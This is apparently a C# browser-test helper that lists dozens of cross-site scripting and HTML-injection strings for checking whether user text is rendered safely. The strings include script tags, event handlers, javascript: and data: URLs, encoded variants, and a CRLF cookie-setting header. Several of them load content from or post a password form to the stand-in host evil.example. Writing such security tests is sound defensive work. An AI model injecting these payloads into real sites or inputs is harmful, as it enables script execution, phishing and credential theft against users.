namespace Bezel.Browser.Tests;

/// <summary>Texts that run a script, load something from elsewhere or change the page wherever they are taken for anything but text.</summary>
internal static class HostileTexts
{
    /// <summary>What stands in each of them, so that it is seen on which pages they are shown.</summary>
    public const string Mark = "bzq";

    /// <summary>Another site. Whatever asks for something there is seen.</summary>
    public const string Elsewhere = "https://evil.example";

    /// <summary>The texts, each for another way in: elements, attributes, quotes, addresses, styles, comments, templates, encodings, foreign content.</summary>
    public static readonly IReadOnlyList<string> All =
    [
        "<script>alert('bzq')</script>",
        "<ScRiPt/x>alert('bzq')</sCrIpT >",
        "\"><script src=https://evil.example/bzq.js></script>",
        "'><script>alert('bzq')</script>",
        "</title><script>alert('bzq')</script>",
        "</textarea><script>alert('bzq')</script>",
        "--><script>alert('bzq')</script><!--",
        "]]><script>alert('bzq')</script>",
        "</script><script>alert('bzq')</script>",
        "<img src=x onerror=alert('bzq')>",
        "<img/src='x'/onerror='alert(`bzq`)'>",
        "<img src=https://evil.example/bzq.png>",
        "<img srcset='https://evil.example/bzq.png 2x'>",
        "\" onmouseover=\"alert('bzq')\" x=\"",
        "' autofocus onfocus='alert(`bzq`)",
        "\" style=\"position:fixed;inset:0;background:url(https://evil.example/bzq)\" x=\"",
        "<svg onload=alert('bzq')>",
        "<svg><script href='https://evil.example/bzq.js'></script></svg>",
        "<svg><animate onbegin=alert('bzq') attributeName=x dur=1s>",
        "<svg><a xlink:href='javascript:alert(`bzq`)'><text y=20>bzq</text></a></svg>",
        "<math><mtext></mtext><mglyph><style><img src=x onerror=alert('bzq')></style></mglyph></math>",
        "<iframe src=\"javascript:alert('bzq')\"></iframe>",
        "<iframe srcdoc='<script>parent.alert(`bzq`)</script>'></iframe>",
        "<object data=\"data:text/html,<script>alert('bzq')</script>\"></object>",
        "<embed src=https://evil.example/bzq.swf>",
        "<body onload=alert('bzq')>",
        "<details open ontoggle=alert('bzq')>bzq",
        "<video><source onerror=alert('bzq')></video>",
        "<audio src=x onerror=alert('bzq')></audio>",
        "<input autofocus onfocus=alert('bzq')>",
        "<select autofocus onfocus=alert('bzq')></select>",
        "<marquee onstart=alert('bzq')>bzq</marquee>",
        "<form action=https://evil.example/bzq><input name=password type=password><button>Sign in</button></form>",
        "<button formaction=\"javascript:alert('bzq')\">Done</button>",
        "<base href=https://evil.example/bzq/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/bzq'>",
        "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src * 'unsafe-inline'\">bzq",
        "<link rel=stylesheet href=https://evil.example/bzq.css>",
        "<link rel=prefetch href=https://evil.example/bzq>",
        "<style>@import 'https://evil.example/bzq.css';*{display:none}</style>",
        "<div style=\"background:url(https://evil.example/bzq)\">bzq</div>",
        "<a href=\"javascript:alert('bzq')\">bzq</a>",
        "<a href=\"java\tscript:alert('bzq')\">bzq</a>",
        "<a href=\"&#106;avascript&colon;alert('bzq')\">bzq</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgnYnpxJyk8L3NjcmlwdD4='>bzq</a>",
        "javascript:alert('bzq')",
        " javascript:/*bzq*/alert('bzq')",
        "vbscript:msgbox(\"bzq\")",
        "&lt;script&gt;alert('bzq')&lt;/script&gt;",
        "&#60;script&#62;alert('bzq')&#60;/script&#62;",
        "\\u003cscript\\u003ealert('bzq')\\u003c/script\\u003e",
        "%3Cscript%3Ealert('bzq')%3C/script%3E",
        "＜script＞alert('bzq')＜/script＞",
        "+ADw-script+AD4-alert('bzq')+ADw-/script+AD4-",
        "<template><script>alert('bzq')</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('bzq')>\"></noscript>",
        "<x-bzq is=bzq onclick=alert('bzq')>",
        "{{constructor.constructor('alert(`bzq`)')()}}",
        "${alert('bzq')}@(alert('bzq'))<%= bzq %>",
        "<plaintext>bzq",
        "<!--bzq",
        "<input type=hidden name=__RequestVerificationToken value=bzq>",
        "<blazor-ssr><template><script>alert('bzq')</script></template></blazor-ssr>",
        "<!--Blazor:{\"type\":\"server\",\"bzq\":0}-->",
        "\u202e<script>alert('bzq')</script>\u2066",
        "bzq\r\nSet-Cookie: bezel=bzq\r\n\r\n<script>alert('bzq')</script>",
    ];

    /// <summary>The one for a place, each in turn.</summary>
    public static string At(int place) => All[place % All.Count];

    /// <summary>Texts that a name may be: one line, not long.</summary>
    public static IReadOnlyList<string> Names { get; } = [.. All.Where(t => t.Length <= 60 && !t.Contains('\n', StringComparison.Ordinal))];
}
